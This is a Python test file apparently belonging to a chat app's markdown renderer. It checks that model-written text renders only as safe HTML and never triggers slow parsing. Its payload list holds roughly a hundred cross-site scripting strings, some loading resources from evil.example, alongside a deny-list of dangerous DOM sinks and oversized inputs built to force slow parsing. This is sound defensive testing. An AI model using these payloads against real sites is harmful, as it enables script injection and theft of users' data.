"""No text that a model writes becomes anything but words, and none takes long."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from gptsmith.serve.static import FOLDER

from .conftest import Blank

ATTRIBUTES = {
    "a": {"href", "rel", "target"},
    "button": {"aria-label", "class", "type"},
    "div": {"class"},
    "input": {"aria-label", "checked", "disabled", "type"},
    "li": {"class"},
    "ol": {"start"},
    "pre": {"class", "tabindex"},
    "span": {"class"},
    "td": {"style"},
    "th": {"style"},
}
ELEMENTS = {
    *ATTRIBUTES, "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "p",
    "strong", "table", "tbody", "thead", "tr", "ul",
}  # fmt: skip
VALUES = {
    "class": {"code", "code-head", "copy", "math", "task"},
    "dir": {"auto", "ltr"},
    "rel": {"noopener noreferrer nofollow"},
    "target": {"_blank"},
    "style": {"text-align: left;", "text-align: center;", "text-align: right;"},
    "type": {"button", "checkbox"},
}
NASTY = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=http://evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="http://evil.example/pixel.gif">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></p><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<style>@import 'http://evil.example/x.css';</style>",
    '<link rel=stylesheet href="http://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<form action="http://evil.example/"><input type=submit>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<a href='javascript:alert(1)'>a</a>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](<java&#9;script:alert(1)>)",
    "[a](java&#10;script:alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[a](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1))",
    "[a](&#1;javascript:alert(1))",
    "[a](<&#1;javascript:alert(1)>)",
    "[a](\x01javascript:alert(1))",
    "[a](< javascript:alert(1)>)",
    "[a](\u00a0javascript:alert(1))",
    "[a](javascript\\:alert(1))",
    "[a](javascript://x.y/%0aalert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](DATA:text/html,<script>alert(1)</script>)",
    "[a](vbscript:msgbox(1))",
    "[a](file:///etc/passwd)",
    "[a](blob:http://evil.example/x)",
    "[a](view-source:http://evil.example/)",
    "[a](//evil.example/x)",
    "[a](\\\\evil.example)",
    "[a](http:javascript:alert(1))",
    '[a](http://x.y/" onclick=alert(1) ")',
    "[a](http://x.y/ 'onmouseover=alert(1)')",
    "[a](http://x.y/\"onclick='alert(1)')",
    "[a](http://x.y/'><script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<http://x.y/\" onclick='alert(1)>",
    "http://x.y/\"onmouseover='alert(1)'",
    "http://x.y/<script>alert(1)</script>",
    "javascript:alert(1)//http://x.y/",
    'www.x.org/"><img src=x onerror=alert(1)>',
    "a@b.cd?body=<script>",
    "![a](http://evil.example/pixel.gif)",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![" onerror="alert(1)](x)',
    '![a](x "onerror=alert(1)")',
    "[![a](http://evil.example/p.gif)](javascript:alert(1))",
    "[a]: javascript:alert(1)\n\n[a]",
    '[a](javascript:alert(1)) [b](http://x.y/ "[c](javascript:d)")',
    "[[a](javascript:alert(1))](http://x.y/)",
    "[`](javascript:alert(1))`](http://x.y/)",
    "*[a*](javascript:alert(1))*",
    "```<script>alert(1)</script>\nx\n```",
    '```"><img src=x onerror=alert(1)>\nx',
    "```html\n<script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |\n|:-:|-:|\n| <script>alert(1)</script> | [a](javascript:b) |",
    "- [x] <img src=x onerror=alert(1)>\n- [ ] [a](javascript:b)",
    "1000000000000. <script>\n999999999. x",
    "> <iframe src=http://evil.example/>\n# <svg/onload=alert(1)>\n---",
    "\u202egnp.exe <script>\u2066alert(1)\u2069[\u202e](javascript:\u202ealert(1))",
    "[\u202emoc.knab](http://evil.example/\u202e)",
    "\u0000<scr\u0000ipt>alert(1)</script>[a](java\u0000script:alert(1))",
    "\ud83d<script>\udc00[a](http://x.y/\ud83d)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
    "[a](http://user:password@evil.example:1/?q=<script>#<img>)",
    "[a](mailto:a@b.cd?subject=%0d%0aBcc:x)",
    '<a id="cookie" name="body"></a><form id=document><img name=body></form>',
    "__proto__ [constructor](http://x.y/constructor) ```__proto__\n",
]


def everything(tab: Blank, texts: list[str]) -> list[list[Any]]:
    """All elements of some texts with their attributes, once they were in the page."""
    found: list[list[Any]] = tab.run(
        """async (texts) => {
          const {render, MarkdownView} = await import("/page/markdown.js");
          const found = new Map();
          for (const text of texts) {
            document.body.replaceChildren(render(text));
            const body = document.createElement("div");
            document.body.append(body);
            const view = new MarkdownView(body);
            for (let end = 0; end <= text.length; end += 1) view.update(text.slice(0, end));
            for (const element of document.body.querySelectorAll("p *, p, body > *, body > div *")) {
              if (element === body) continue;
              const attributes = [...element.attributes].map(({name, value}) => [name, value]);
              found.set(element.cloneNode().outerHTML, [element.localName, attributes, element.namespaceURI]);
            }
          }
          return [...found.values()];
        }""",
        texts,
    )
    return found


def assert_harmless(found: list[list[Any]]) -> None:
    for tag, attributes, namespace in found:
        assert namespace == "http://www.w3.org/1999/xhtml"
        assert tag in ELEMENTS
        for name, value in attributes:
            assert name in ATTRIBUTES.get(tag, set()) | {"dir"}, (tag, name)
            assert value in VALUES.get(name, {value})
            assert name != "href" or value.startswith(("http:", "https:", "mailto:")), value


def test_nothing_but_words_comes_of_nasty_texts(blank: Blank) -> None:
    assert len(NASTY) >= 60
    nested = [f"> - *x {text} **y***\n\n[l]({text}) [{text}](http://x.y/) ![{text}](z)" for text in NASTY]
    assert_harmless(everything(blank, NASTY + nested))
    blank.page.wait_for_timeout(200)
    modules = {"markdown", "markdown_blocks", "markdown_elements", "markdown_text", "clipboard", "element"}
    modules |= {"words", "words_en", "words_zh", "memory"}  # for its buttons
    assert set(blank.requests) == {f"{blank.address}/", *(f"{blank.address}/page/{name}.js" for name in modules)}


def test_the_check_itself_sees_what_is_not_allowed() -> None:
    space = "http://www.w3.org/1999/xhtml"
    for tag, attributes in (("script", []), ("p", [["onclick", "x"]]), ("a", [["href", "javascript:x"]])):
        with pytest.raises(AssertionError):
            assert_harmless([[tag, attributes, space]])


@pytest.mark.parametrize("path", sorted(FOLDER.rglob("*.js")), ids=lambda path: path.name)
def test_no_module_reads_text_as_html_or_as_a_program(path: Path) -> None:
    forbidden = r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|setHTML|DOMParser|createContextualFragment"
    assert not re.findall(rf"{forbidden}|\beval\(|\bFunction\(", path.read_text(encoding="utf-8"))


LONG = {
    "quotes": ">" * 10_000 + "a",
    "spaced quotes": "> " * 10_000 + "a",
    "brackets": "[" * 10_000,
    "closed brackets": "[" * 10_000 + "]" * 10_000,
    "links in brackets": "[" * 20_000 + "[a](b)" * 20_000,
    "images in images": "![" * 50_000 + "](x)" * 50_000,
    "one line": "x" * 1_000_000,
    "one line of words": "word " * 200_000,
    "unmatched": "*a " * 5_000,
    "one run": "*" * 500_000 + "a" + "*" * 500_000,
    "nested emphasis": "*a " * 20_000 + "a* " * 20_000,
    "mixed emphasis": "a**b_c*d__~~" * 8_000,
    "backquotes": "".join("`" * length + " " for length in range(1, 1_000)),
    "addresses": "http://a:x-" * 50_000,
    "closed addresses": "http://a.b" + ")" * 200_000,
    "mail": "a_" * 200_000 + "a@" * 100_000,
    "open addresses": "[a](b" * 50_000 + "[a](<b" * 50_000 + '[a](b "' * 50_000,
    "parentheses": "[a](" + "(" * 200_000,
    "spaces": "a" + " " * 500_000 + "b\n" + " " * 500_000,
    "hashes": "# " + " #" * 200_000 + " x",
    "rule": "* " * 200_000 + "x",
    "items in items": "".join("  " * depth + "- a\n" for depth in range(600)),
    "quotes in quotes": "".join("> " * depth + "a\n" for depth in range(600)),
    "table": "|" + "a|" * 2_000 + "\n|" + "-|" * 2_000 + "\n" + "|a\n" * 20_000,
    "blocks": "# a\n" * 10_000 + "- a\n" * 10_000,
    "entities": "&" * 200_000 + "http://a.b" + "&amp;" * 50_000,
    "backslashes": "\\" * 200_000,
    "angles": "<a:" * 100_000,
}


@pytest.mark.parametrize("name", LONG)
def test_no_text_takes_long_or_nests_deep(tab: Blank, name: str) -> None:
    """What took a time that grows with the square of the length would take minutes or hours here."""
    depth = tab.run(
        """async (text) => {
          const {MarkdownView} = await import("/page/markdown.js");
          const view = new MarkdownView(document.createElement("div"));
          view.update(text);
          view.update(text + "\\n\\nend");
          let depth = 0;
          for (let level = [...view.target.children]; level.length; depth += 1) {
            level = level.flatMap((node) => [...node.children]);
          }
          return depth;
        }""",
        LONG[name],
    )
    assert 1 <= depth <= 110
